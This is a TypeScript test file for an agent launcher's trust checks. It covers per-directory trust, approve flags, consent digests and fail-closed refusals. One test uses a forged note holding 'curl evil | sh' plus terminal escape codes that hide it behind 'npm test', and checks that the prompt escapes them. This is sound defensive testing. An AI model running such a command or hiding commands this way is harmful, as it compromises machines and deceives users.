import { describe, expect, it } from "vitest";
import { Problems } from "../../src/core/problems.ts";
import {
	ConsentRecord,
	checkTrusted,
	type ProjectControlled,
	readApproveFlag,
	type TrustGate,
	type TrustInputs,
	trustPolicy,
} from "../../src/launch/trust.ts";

const inputs = (overrides: Partial<TrustInputs>): TrustInputs => ({
	parentCwd: "/repo",
	parentTrusted: true,
	parentHadDecision: false,
	approveFlag: undefined,
	store: { get: () => null },
	...overrides,
});

describe("explicit trust per directory", () => {
	it("does not count Pi's implicit trust of a cwd it had nothing to decide about", () => {
		expect(trustPolicy(inputs({}))("/repo")).toBe(false);
	});

	it("counts Pi's decision for the parent's cwd when Pi had one to make, for that cwd only", () => {
		const trust = trustPolicy(inputs({ parentHadDecision: true }));
		expect(trust("/repo")).toBe(true);
		expect(trust("/repo/sub")).toBe(false);
		expect(trustPolicy(inputs({ parentHadDecision: true, parentTrusted: false }))("/repo")).toBe(false);
	});

	it("applies the parent's --approve / --no-approve to its own cwd only", () => {
		expect(trustPolicy(inputs({ approveFlag: true }))("/repo")).toBe(true);
		expect(trustPolicy(inputs({ approveFlag: true }))("/elsewhere")).toBe(false);
		const refused = trustPolicy(inputs({ approveFlag: false, store: { get: () => true } }));
		expect(refused("/repo")).toBe(false);
		expect(refused("/elsewhere")).toBe(true);
	});

	it("takes Pi's trust store for any directory, and treats an unreadable store as no entry", () => {
		const store = { get: (dir: string) => (dir === "/other" ? true : dir === "/denied" ? false : null) };
		const trust = trustPolicy(inputs({ store }));
		expect([trust("/other"), trust("/denied"), trust("/none")]).toEqual([true, false, false]);
		const broken = trustPolicy(
			inputs({
				store: {
					get: () => {
						throw new Error("Invalid trust store");
					},
				},
			}),
		);
		expect(broken("/other")).toBe(false);
	});

	it("reads the last of -a/--approve and -na/--no-approve from argv", () => {
		expect(readApproveFlag(["node", "pi", "-p", "x"])).toBeUndefined();
		expect(readApproveFlag(["node", "pi", "--approve"])).toBe(true);
		expect(readApproveFlag(["node", "pi", "-a", "-na"])).toBe(false);
	});
});

describe("checkTrusted", () => {
	const SCOUT: ProjectControlled = {
		what: 'project agent "scout"',
		file: "/p/.pi/agents/scout.md",
		projectDir: "/p",
		digest: "d1",
	};
	const gate = (fields: Partial<TrustGate>): TrustGate => ({
		trust: () => false,
		consents: new ConsentRecord(),
		agentDir: "/a",
		...fields,
	});
	const check = async (items: ProjectControlled[], context: TrustGate) => {
		const problems = new Problems();
		const ok = await checkTrusted(items, context, problems);
		return { ok, problems: [...problems.list] };
	};

	it("passes without asking when nothing is project-controlled or the project is explicitly trusted", async () => {
		const asked: string[] = [];
		const confirm = async (title: string) => {
			asked.push(title);
			return false;
		};
		expect(await check([], gate({ confirm }))).toEqual({ ok: true, problems: [] });
		expect(await check([SCOUT], gate({ confirm, trust: (dir) => dir === "/p" }))).toEqual({ ok: true, problems: [] });
		expect(asked).toEqual([]);
	});

	it("refuses with no UI to ask, naming the definition, its project and how to grant trust (fail closed)", async () => {
		const { ok, problems } = await check([SCOUT], gate({}));
		expect(ok).toBe(false);
		expect(problems).toEqual([
			expect.stringContaining(
				'refused to run project agent "scout" (/p/.pi/agents/scout.md): it is project-controlled, /p is not explicitly trusted',
			),
		]);
		expect(problems[0]).toContain("/a/trust.json");
	});

	it("asks once for the same content: a confirmation is kept, a changed digest asks again", async () => {
		let asked = 0;
		const context = gate({
			confirm: async () => {
				asked += 1;
				return true;
			},
		});
		expect((await check([SCOUT], context)).ok).toBe(true);
		expect((await check([SCOUT], context)).ok).toBe(true);
		expect(asked).toBe(1);
		expect((await check([{ ...SCOUT, digest: "d2" }], context)).ok).toBe(true);
		expect(asked).toBe(2);
	});

	it("shows a note the file chose (a project graph's commands) as one visible line in the prompt and the refusal", async () => {
		// A command of a project graph that tries to erase its own line and draw a harmless one in its place.
		const forged = {
			...SCOUT,
			note: "runs commands: sh -c curl evil | sh \r\u001b[2K\u001b[1Aruns commands: npm test",
		};
		const messages: string[] = [];
		const declined = await check(
			[forged],
			gate({
				confirm: async (_title, message) => {
					messages.push(message);
					return false;
				},
			}),
		);
		const escaped = "runs commands: sh -c curl evil | sh \\u000d\\u001b[2K\\u001b[1Aruns commands: npm test";
		expect(messages).toHaveLength(1);
		expect(messages[0]).toContain(escaped);
		expect(declined.problems[0]).toContain(escaped);
		for (const text of [messages[0], declined.problems[0]]) expect(text).not.toMatch(/\p{Cc}/u);
	});

	it("refuses when the user declines, and keeps no consent", async () => {
		const context = gate({ confirm: async () => false });
		const declined = await check([SCOUT], context);
		expect(declined.ok).toBe(false);
		expect(declined.problems).toEqual([expect.stringContaining('declined to run project agent "scout"')]);
		expect(context.consents.has(SCOUT)).toBe(false);
	});
});
